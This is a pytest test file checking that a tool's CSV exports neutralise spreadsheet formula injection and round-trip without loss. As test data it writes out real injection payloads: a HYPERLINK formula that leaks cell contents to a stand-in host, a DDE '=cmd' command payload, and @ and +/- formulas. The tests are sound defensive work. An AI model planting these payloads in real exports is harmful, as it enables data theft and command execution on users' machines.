"""Safe CSV exports: no cell a spreadsheet would run, no property or attribute overwriting a column of
the file's own, and an export → import → export round trip that is byte-identical (demo scenario plus
hostile names) and loses no value."""

from __future__ import annotations

import csv
import json

import pytest

from cellmap.export import export
from cellmap.ingest import import_files
from cellmap.ingest.csvfile import join_values, neutralise, restore, split_values
from cellmap.scenario import DEMO_SEED, generate, scenario_files
from cellmap.store import open_store, views

HOSTILE_TEXTS = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "=1;=2",
    "'=already quoted",
    "''",
    "'",
    "-12.5",
    "+7",
    "1e5",
    "a;b",
    "back\\slash",
    "ends with a backslash\\",
    "\\;",
    'quote " and, comma',
    "line\nbreak",
    "Abu Khalid al-Raqqawi",
]


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_a_neutralised_cell_runs_nothing_and_restores_exactly(text):
    cell = neutralise(text)
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or text in ("-12.5", "+7")
    assert restore(cell) == text


def test_several_values_with_separators_and_backslashes_split_back():
    values = ["a;b", "c\\", "\\;", "plain", "C:\\path"]
    assert split_values(join_values(values)) == values
    # a hand-written cell: a backslash before any other character stays
    assert split_values("C:\\temp; D:\\x") == ["C:\\temp", "D:\\x"]


def _hostile_records() -> list[dict]:
    report = {"id": "R-HOSTILE", "grade": "C3", "title": "=cmd|' /C calc'!A0", "kind": "other"}
    entity = {
        "record": "entity",
        "id": "=HOSTILE-1",
        "kind": "person",
        "report": report,
        "properties": {
            "name": ['=HYPERLINK("http://example.invalid","x")', "@Ali;al-Tikriti"],
            "id": ["P-FAKE"],  # a property named like the entity key
            "kind": ["organisation"],
            "report": ["R-other"],
            "type": ["ied"],  # would make the file look like an incidents file
            "prop:x": ["prefixed already"],
            "birthPlace": ["+Raqqa"],
            "note": ["back\\slash; and semicolon"],
        },
    }
    other = {
        "record": "entity",
        "id": "HOSTILE-2",
        "kind": "person",
        "report": "R-HOSTILE",
        "properties": {"name": ["-Umm Ba"]},
    }
    relation = {
        "record": "relation",
        "kind": "communication",
        "source": "=HOSTILE-1",
        "target": "HOSTILE-2",
        "report": "R-HOSTILE",
        "attrs": {"target": "P-ELSEWHERE", "source": "@x", "kind": "phone", "count": 2},
    }
    return [{"record": "report", **report}, entity, other, relation]


def _export_csv(store, folder):
    export(store, "csv", folder)
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def _contents(store) -> dict:
    """The store's values, without database ids: what must survive the round trip."""
    with store.session() as conn:
        entities = views.entities(conn, resolved=False)
        key_of = dict(entities.select("entity_id", "key").iter_rows())
        props = sorted(
            (key_of[e], p, v, r)
            for e, p, v, r in views.properties(conn)
            .select("entity_id", "prop", "value", "report_key")
            .iter_rows()
        )
        relations = sorted(
            (key_of[s], key_of[t], k, json.dumps(json.loads(a or "{}"), sort_keys=True), r)
            for s, t, k, a, r in views.relations(conn, resolved=False)
            .select("source_id", "target_id", "kind", "attrs", "report_key")
            .iter_rows()
        )
        return {
            "entities": sorted(entities.select("key", "kind").iter_rows()),
            "properties": props,
            "relations": relations,
            "counts": views.counts(conn),
        }


@pytest.mark.slow
def test_csv_round_trip_is_byte_identical_on_the_demo_and_hostile_names(tmp_path):
    generate(DEMO_SEED, "demo", tmp_path / "scenario")
    hostile = tmp_path / "hostile.cellmap.jsonl"
    hostile.write_text("".join(json.dumps(r) + "\n" for r in _hostile_records()), "utf-8")
    first = open_store(tmp_path / "first.sqlite")
    first.init()
    import_files(first, [*scenario_files(tmp_path / "scenario"), hostile])
    exported = _export_csv(first, tmp_path / "csv1")

    second = open_store(tmp_path / "second.sqlite")
    second.init()
    order = ("reports.csv", "entities.csv", "relations.csv", "incidents.csv")
    import_files(second, [tmp_path / "csv1" / name for name in order])
    again = _export_csv(second, tmp_path / "csv2")
    assert again.keys() == exported.keys()
    for name in exported:
        assert again[name] == exported[name], name
    original, copied = _contents(first), _contents(second)
    assert copied["properties"] == original["properties"]
    assert copied["entities"] == original["entities"]
    assert copied["relations"] == original["relations"]

    # no cell of the export would run in a spreadsheet, and the hostile columns were renamed
    for name in exported:
        with open(tmp_path / "csv1" / name, newline="", encoding="utf-8") as handle:
            rows = list(csv.reader(handle))
        for row in rows[1:]:
            for cell in row:
                assert cell[:1] not in ("=", "@", "\t", "\r"), (name, cell)
                if cell[:1] in ("+", "-"):
                    float(cell)  # only plain numbers may start with a sign
    entity_header = exported["entities.csv"].decode().splitlines()[0].split(",")
    assert {"prop:id", "prop:kind", "prop:report", "prop:type", "prop:prop:x"} <= set(entity_header)
    relation_header = exported["relations.csv"].decode().splitlines()[0].split(",")
    assert {"attr:target", "attr:source", "attr:kind"} <= set(relation_header)
    hostile_names = sorted(
        v for k, p, v, _ in copied["properties"] if k == "=HOSTILE-1" and p == "name"
    )
    assert hostile_names == ['=HYPERLINK("http://example.invalid","x")', "@Ali;al-Tikriti"]
    first.close()
    second.close()
